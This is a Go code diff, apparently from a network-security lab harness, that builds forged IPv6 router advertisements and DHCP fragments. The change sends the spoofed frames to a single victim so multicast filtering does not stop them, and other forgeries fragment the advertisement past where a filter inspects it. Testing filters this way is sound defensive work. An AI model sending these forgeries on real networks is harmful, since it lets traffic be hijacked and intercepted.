@@ -29,13 +29,13 @@ var (
 
 	// RAFirstFragment holds destination options alone. The advertisement follows in
 	// RALastFragment.
-	RAFirstFragment = Forgery{"the first fragment of a router advertisement", func(from, _ *lab.Endpoint) ([]byte, error) {
-		return fromRouter(from, frame.Destination, padding(uint8(gabion.ICMPv6)), frame.Piece(3, 0, true)), nil
+	RAFirstFragment = Forgery{"the first fragment of a router advertisement", func(from, victim *lab.Endpoint) ([]byte, error) {
+		return fromRouter(from, victim, frame.Destination, padding(uint8(gabion.ICMPv6)), frame.Piece(3, 0, true)), nil
 	}}
 
 	// RALastFragment holds the advertisement, behind where a filter looks for it.
-	RALastFragment = Forgery{"the last fragment of a router advertisement", func(from, _ *lab.Endpoint) ([]byte, error) {
-		return fromRouter(from, frame.Destination, advertisement(from), frame.Piece(3, len(padding(0)), false)), nil
+	RALastFragment = Forgery{"the last fragment of a router advertisement", func(from, victim *lab.Endpoint) ([]byte, error) {
+		return fromRouter(from, victim, frame.Destination, advertisement(from), frame.Piece(3, len(padding(0)), false)), nil
 	}}
 
 	// DHCPFragment is the first fragment of a DHCP offer, and DHCP by its ports alone.
@@ -51,17 +51,17 @@ var Evasion = []Forgery{
 }
 
 func hidden(name string, behind ...frame.Extension) Forgery {
-	return Forgery{name, func(from, _ *lab.Endpoint) ([]byte, error) {
-		return fromRouter(from, uint8(gabion.ICMPv6), advertisement(from), behind...), nil
+	return Forgery{name, func(from, victim *lab.Endpoint) ([]byte, error) {
+		return fromRouter(from, victim, uint8(gabion.ICMPv6), advertisement(from), behind...), nil
 	}}
 }
 
-// fromRouter goes to every machine of the link.
-func fromRouter(from *lab.Endpoint, protocol uint8, payload []byte, behind ...frame.Extension) []byte {
+// fromRouter goes to the victim alone, or it would be stopped as a multicast.
+func fromRouter(from, victim *lab.Endpoint, protocol uint8, payload []byte, behind ...frame.Extension) []byte {
 	return frame.Ethernet{
-		Destination: frame.Multicast(allNodes), Source: from.MAC, Kind: frame.KindIPv6,
+		Destination: victim.MAC, Source: from.MAC, Kind: frame.KindIPv6,
 		Payload: frame.IPv6{
-			Source: from.MAC.LinkLocal(), Destination: allNodes, HopLimit: 255,
+			Source: from.MAC.LinkLocal(), Destination: victim.MAC.LinkLocal(), HopLimit: 255,
 			Extensions: behind, Protocol: protocol, Payload: payload,
 		}.Bytes(),
 	}.Bytes()
